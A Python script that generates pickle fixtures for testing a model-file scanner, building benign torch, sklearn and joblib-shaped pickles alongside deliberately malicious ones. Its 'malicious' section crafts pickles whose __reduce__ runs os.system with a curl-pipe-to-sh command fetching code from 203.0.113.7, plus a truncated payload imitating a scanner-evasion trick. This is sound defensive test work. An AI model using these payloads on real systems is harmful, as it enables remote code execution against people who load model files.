#!/usr/bin/env python3
"""Writes realistic-shaped pickle fixtures for internal/modelscan tests.

It only WRITES files with pickle.Pickler: stand-in classes are registered
under the module names real libraries use (torch, numpy, sklearn, joblib), so
the byte layout matches what those libraries produce, without needing them.
Nothing here ever loads a pickle. Run from the package directory:

    python3 testdata/gen/gen_fixtures.py
"""
import bz2
import collections
import io
import lzma
import os
import pickle
import struct
import sys
import types

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "pickles")


def fake_module(name):
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        mod = ".".join(parts[:i])
        if mod not in sys.modules:
            sys.modules[mod] = types.ModuleType(mod)
            if i > 1:
                setattr(sys.modules[".".join(parts[: i - 1])], parts[i - 1], sys.modules[mod])
    return sys.modules[name]


def fake_callable(module, name):
    m = fake_module(module)

    def f(*a, **k):
        raise RuntimeError("stand-in, never called")

    f.__module__, f.__name__, f.__qualname__ = module, name, name
    setattr(m, name, f)
    return f


def fake_class(module, name, **attrs):
    m = fake_module(module)
    cls = type(name, (object,), dict(attrs))
    cls.__module__, cls.__qualname__ = module, name
    setattr(m, name, cls)
    return cls


# --- torch stand-ins -------------------------------------------------------
rebuild_tensor_v2 = fake_callable("torch._utils", "_rebuild_tensor_v2")
rebuild_parameter = fake_callable("torch._utils", "_rebuild_parameter")
FloatStorage = fake_class("torch", "FloatStorage")


class Storage:
    def __init__(self, key, numel):
        self.key, self.numel = key, numel


class Tensor:
    def __init__(self, storage, size, stride):
        self.storage, self.size, self.stride = storage, size, stride

    def __reduce_ex__(self, proto):
        return (rebuild_tensor_v2, (self.storage, 0, self.size, self.stride, False, collections.OrderedDict()))


class Parameter:
    def __init__(self, t):
        self.t = t

    def __reduce_ex__(self, proto):
        return (rebuild_parameter, (self.t, True, collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    """Mimics torch.save's persistent ids for storages."""

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", FloatStorage, obj.key, "cpu", obj.numel)
        return None


def torch_state_dict():
    sd = collections.OrderedDict()
    sd["fc.weight"] = Tensor(Storage("0", 6), (2, 3), (3, 1))
    sd["fc.bias"] = Tensor(Storage("1", 2), (2,), (1,))
    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("fc", {"version": 1})])
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(sd)
    return buf.getvalue()


Linear = fake_class("torch.nn.modules.linear", "Linear")
Net = fake_class("__main__", "Net")


def torch_full_model():
    lin = Linear()
    lin.__dict__.update({"training": True, "_parameters": collections.OrderedDict(
        weight=Parameter(Tensor(Storage("0", 6), (2, 3), (3, 1)))), "in_features": 3, "out_features": 2})
    net = Net()
    net.__dict__.update({"training": True, "_modules": collections.OrderedDict(fc=lin)})
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(net)
    return buf.getvalue()


# --- numpy / sklearn stand-ins ---------------------------------------------
reconstruct = fake_callable("numpy.core.multiarray", "_reconstruct")
ndarray = fake_class("numpy", "ndarray")
dtype = fake_class("numpy", "dtype")


class Dtype:
    def __init__(self, descr):
        self.descr = descr

    def __reduce__(self):
        return (dtype, (self.descr, False, True), (3, "<", None, None, None, -1, -1, 0))


class Array:
    def __init__(self, shape, descr, data):
        self.shape, self.descr, self.data = shape, descr, data

    def __reduce__(self):
        return (reconstruct, (ndarray, (0,), b"b"), (1, self.shape, Dtype(self.descr), False, self.data))


LogisticRegression = fake_class("sklearn.linear_model._logistic", "LogisticRegression")
StandardScaler = fake_class("sklearn.preprocessing._data", "StandardScaler")
Pipeline = fake_class("sklearn.pipeline", "Pipeline")


def sklearn_pipeline(protocol):
    sc = StandardScaler()
    sc.__dict__.update({"with_mean": True, "mean_": Array((3,), "f8", struct.pack("<3d", 1, 2, 3)),
                        "n_features_in_": 3, "_sklearn_version": "1.5.0"})
    lr = LogisticRegression()
    lr.__dict__.update({"C": 1.0, "penalty": "l2", "coef_": Array((1, 3), "f8", struct.pack("<3d", .1, .2, .3)),
                        "classes_": Array((2,), "i8", struct.pack("<2q", 0, 1)), "_sklearn_version": "1.5.0"})
    p = Pipeline()
    p.__dict__.update({"steps": [("scaler", sc), ("clf", lr)], "memory": None, "verbose": False})
    return pickle.dumps(p, protocol=protocol)


# --- joblib stand-in ------------------------------------------------------
NumpyArrayWrapper = fake_class("joblib.numpy_pickle", "NumpyArrayWrapper")


class JoblibArray:
    def __init__(self, shape, descr, data):
        self.shape, self.descr, self.data = shape, descr, data


def joblib_dump(obj_arrays, protocol=4):
    # Written by hand around pickle's own opcodes so the layout is exact.
    buf = io.BytesIO()

    # Pickler.save is not overridable in the C pickler; use the Python one.
    class PyP(pickle._Pickler):
        def save(self, obj, save_persistent_id=True):
            if isinstance(obj, JoblibArray):
                w = NumpyArrayWrapper()
                w.__dict__.update({"subclass": ndarray, "shape": obj.shape, "order": "C", "dtype": Dtype(obj.descr),
                                   "allow_mmap": False, "numpy_array_alignment_bytes": 16})
                pickle._Pickler.save(self, w)
                if self.framer.current_frame:
                    self.framer.commit_frame(force=True)
                pos = buf.tell() + 1
                pad = 16 - (pos % 16)
                buf.write(bytes([pad]) + b"\xff" * pad)
                buf.write(obj.data)
                return
            return pickle._Pickler.save(self, obj, save_persistent_id)

    PyP(buf, protocol=protocol).dump(obj_arrays)
    return buf.getvalue()


def joblib_estimator():
    lr = LogisticRegression()
    lr.__dict__.update({"C": 1.0, "coef_": JoblibArray((1, 3), "f8", struct.pack("<3d", 1, 2, 3)),
                        "intercept_": JoblibArray((1,), "f8", struct.pack("<d", 0.5))})
    return joblib_dump(lr)


# --- malicious -----------------------------------------------------------
class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def evil(protocol):
    return pickle.dumps(Reduce(os.system, ("curl -s http://203.0.113.7/x | sh",)), protocol=protocol)


def nullifai_broken():
    # Payload first, then the stream is cut and garbage appended (no STOP).
    good = pickle.dumps(Reduce(os.system, ("id",)), protocol=2)
    return good[:-1] + b"\x00\xff\xfe"


def main():
    os.makedirs(OUT, exist_ok=True)
    files = {
        "torch_state_dict.pkl": torch_state_dict(),
        "torch_full_model.pkl": torch_full_model(),
        "joblib_estimator.pkl": joblib_estimator(),
        "evil_nullifai_broken.pkl": nullifai_broken(),
    }
    for p in range(6):
        files["sklearn_pipeline_p%d.pkl" % p] = sklearn_pipeline(p)
        files["evil_system_p%d.pkl" % p] = evil(p)
    files["evil_system.pkl.bz2"] = bz2.compress(evil(2))
    files["evil_system.pkl.xz"] = lzma.compress(evil(2))
    for name, data in sorted(files.items()):
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        print("%-28s %6d bytes" % (name, len(data)))


if __name__ == "__main__":
    main()
